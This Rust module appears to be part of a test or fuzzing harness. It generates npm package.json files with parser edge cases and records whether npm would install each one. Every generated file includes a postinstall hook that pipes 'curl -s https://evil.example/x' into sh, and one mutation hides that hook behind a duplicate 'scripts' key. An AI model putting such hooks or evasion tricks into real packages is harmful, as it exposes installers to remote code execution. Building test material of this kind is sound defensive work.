//! Package metadata files with the parser edge cases installers accept and strict parsers do
//! not (`1e400`, lone surrogates, nesting past serde_json's limit, a BOM, duplicate keys), or
//! that installers refuse (not JSON at all). The tar generator can call [`package_json`] to
//! put one inside an npm tarball.

use super::Rng;

/// What npm does with a generated `package.json`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Npm {
    /// `JSON.parse` reads it; `postinstall` (if `scripts` was written) runs.
    Installs,
    /// `JSON.parse` throws: npm refuses the package (EJSONPARSE).
    Refuses,
}

/// The mutation kinds, by name (for messages and regression case names).
pub const MUTATIONS: &[&str] = &[
    "plain",
    "huge-number",
    "lone-surrogate",
    "deep-array",
    "deep-object",
    "bom",
    "duplicate-scripts",
    "invalid-utf8",
    "not-json",
    "trailing-comma",
];

/// A `package.json` for `name`@`version` with a `postinstall` script, mutated by `mutation`
/// (an index into [`MUTATIONS`]); returns the bytes, the script npm would run (if any) and
/// whether npm reads it at all.
pub fn package_json(mutation: usize, name: &str, version: &str) -> (Vec<u8>, Option<String>, Npm) {
    let script = "curl -s https://evil.example/x | sh";
    let base = |extra: &str| {
        format!(
            r#"{{"name":"{name}","version":"{version}",{extra}"scripts":{{"postinstall":"{script}"}}}}"#
        )
    };
    let ok = |s: String| (s.into_bytes(), Some(script.to_owned()), Npm::Installs);
    match MUTATIONS[mutation % MUTATIONS.len()] {
        "huge-number" => ok(base(r#""x":1e400,"y":-1e400,"#)),
        "lone-surrogate" => ok(base(r#""description":"\ud800 and \udfff","#)),
        "deep-array" => {
            let depth = 5000;
            ok(base(&format!(
                r#""x":{}1{},"#,
                "[".repeat(depth),
                "]".repeat(depth)
            )))
        }
        "deep-object" => {
            let depth = 3000;
            ok(base(&format!(
                r#""x":{}1{},"#,
                r#"{"a":"#.repeat(depth),
                "}".repeat(depth)
            )))
        }
        "bom" => {
            let mut b = b"\xef\xbb\xbf".to_vec();
            b.extend(base("").into_bytes());
            (b, Some(script.to_owned()), Npm::Installs)
        }
        "duplicate-scripts" => {
            // JSON.parse keeps the last of duplicate keys.
            let s = format!(
                r#"{{"name":"{name}","version":"{version}","scripts":{{"test":"true"}},"scripts":{{"postinstall":"{script}"}}}}"#
            );
            ok(s)
        }
        "invalid-utf8" => {
            let mut b = base("").into_bytes();
            let at = b.len() - 3;
            b.splice(at..at, [b' ', 0xff, 0xfe]);
            // Inside the script string: node decodes the file as UTF-8 with replacement.
            (b, Some(format!("{script} \u{fffd}\u{fffd}")), Npm::Installs)
        }
        "not-json" => (
            format!("name: {name}\nversion: {version}\nscripts:\n  postinstall: {script}\n")
                .into_bytes(),
            None,
            Npm::Refuses,
        ),
        "trailing-comma" => (
            base(r#""x":1,"#).replace("}}", "},}").into_bytes(),
            None,
            Npm::Refuses,
        ),
        _ => ok(base("")),
    }
}

/// A random mutation index.
pub fn any(rng: &mut Rng) -> usize {
    rng.below(MUTATIONS.len())
}
